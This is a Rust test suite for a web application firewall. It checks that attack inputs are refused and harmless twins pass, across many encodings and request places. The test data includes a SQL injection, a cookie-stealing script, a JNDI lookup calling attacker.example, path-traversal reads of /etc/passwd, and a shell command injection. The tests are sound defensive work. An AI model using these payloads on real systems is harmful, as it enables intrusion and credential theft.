//! What is refused where the firewall refuses, each with what passes beside it.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;

use crate::request::{Ask, multipart};
use crate::wall::Wall;

const SQL: &str = "1' or '1'='1' union select password from users -- ";
const SCRIPT: &str = "<script>alert(document.cookie)</script>";

/// What no attack is made of, in the same places.
const PLAIN: &str = "a walk in the park";

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// One text in every place that an app may read it from.
fn places(text: &str) -> Vec<(String, Ask)> {
    let form = format!("note=hello&q={}", encoded(text));
    let json = serde_json::json!({ "a": [1, { "b": text }] }).to_string();
    let (kind, parts) = multipart("q", text);
    let mut all = vec![
        ("query".to_owned(), Ask::get(format!("/search?q={}", encoded(text)))),
        ("cookie".to_owned(), Ask::get("/").field("cookie", format!("theme={}", encoded(text)))),
        ("form".to_owned(), Ask::form(form.clone())),
        ("chunked form".to_owned(), Ask::form(form.clone()).chunked()),
        ("json".to_owned(), Ask::post("/api", "application/json", json.clone())),
        ("chunked json".to_owned(), Ask::post("/api", "application/json", json.clone()).chunked()),
        ("json by another name".to_owned(), Ask::post("/api", "application/vnd.api+json", json.clone())),
        ("multipart".to_owned(), Ask::post("/upload", &kind, parts.clone())),
        ("chunked multipart".to_owned(), Ask::post("/upload", &kind, parts).chunked()),
        ("gzip form".to_owned(), Ask::form(gzip(form.as_bytes())).field("content-encoding", "gzip")),
        (
            "gzip json".to_owned(),
            Ask::post("/api", "application/json", gzip(json.as_bytes())).field("content-encoding", "gzip"),
        ),
        // A wish to speak another protocol takes nothing of what comes in this one out of sight.
        (
            "form with an upgrade".to_owned(),
            Ask::form(form).field("connection", "upgrade").field("upgrade", "websocket"),
        ),
    ];
    for kib in [8, 16, 32, 64, 128] {
        let padding = "a".repeat(kib * 1024);
        all.push((format!("behind {kib} KiB"), Ask::form(format!("pad={padding}&q={}", encoded(text)))));
        let json = serde_json::json!({ "pad": padding, "q": text }).to_string();
        all.push((format!("json behind {kib} KiB"), Ask::post("/api", "application/json", json)));
    }
    all
}

/// Places that only some attacks are looked for in.
fn others() -> Vec<(&'static str, Ask, Ask)> {
    vec![
        ("path", Ask::get("/files/..%2f..%2f..%2fetc/passwd"), Ask::get("/files/etc/readme")),
        (
            "header",
            Ask::get("/").field("x-note", "${jndi:ldap://attacker.example/a}"),
            Ask::get("/").field("x-note", "curl"),
        ),
        ("path in a query", Ask::get("/show?file=../../../../etc/passwd"), Ask::get("/show?file=notes.txt")),
        ("shell", Ask::get("/ping?host=1.1.1.1;cat%20/etc/passwd"), Ask::get("/ping?host=1.1.1.1")),
    ]
}

#[test]
fn attacks_are_refused_and_their_twins_pass() {
    let (wall, app) = Wall::with("[site.waf]\nmode = \"block\"\n");
    let mut wrong = Vec::new();
    let judge = |wrong: &mut Vec<String>, name: &str, ask: &Ask, is_attack: bool| {
        // HTTP/2 knows no such field (RFC 9113, 8.2.2).
        let is_of_http1 = ask.fields.iter().any(|(name, _)| name == "connection");
        let answers = if is_of_http1 { vec![("HTTP/1.1", ask.http1(&wall))] } else { ask.both(&wall).to_vec() };
        for (protocol, (status, page)) in answers {
            // Paths that climb are the wall's own to refuse, with 400.
            let is_refused = matches!(status, 400 | 403);
            if is_refused != is_attack || (!is_refused && (status, page.as_str()) != (200, "ok")) {
                wrong.push(format!("{name} over {protocol}: {status}"));
            }
        }
    };
    for text in [SQL, SCRIPT] {
        for (name, ask) in places(text) {
            judge(&mut wrong, &name, &ask, true);
        }
    }
    for (name, attack, _) in others() {
        judge(&mut wrong, name, &attack, true);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(app.connections().concat().is_empty(), "the app saw something of an attack");
    for (name, ask) in places(PLAIN) {
        judge(&mut wrong, &name, &ask, false);
    }
    for (name, _, twin) in others() {
        judge(&mut wrong, name, &twin, false);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_was_held_back_arrives_whole() {
    let (wall, app) = Wall::with("[site.waf]\nmode = \"block\"\n");
    for (name, ask) in places(PLAIN) {
        let before = app.requests().len();
        assert_eq!(ask.http1(&wall).0, 200, "{name}");
        assert_eq!(app.requests()[before].body, ask.body, "{name} over HTTP/1.1");
    }
    // Longer than what is looked at: the rest follows as it comes.
    let long = vec![b'x'; 3 << 20];
    let ask = Ask::post("/upload", "application/octet-stream", long.clone());
    for ask in [ask.clone(), ask.chunked()] {
        let before = app.requests().len();
        assert_eq!(ask.http1(&wall).0, 200);
        assert!(app.requests()[before].body == long, "the upload arrived otherwise");
    }
}
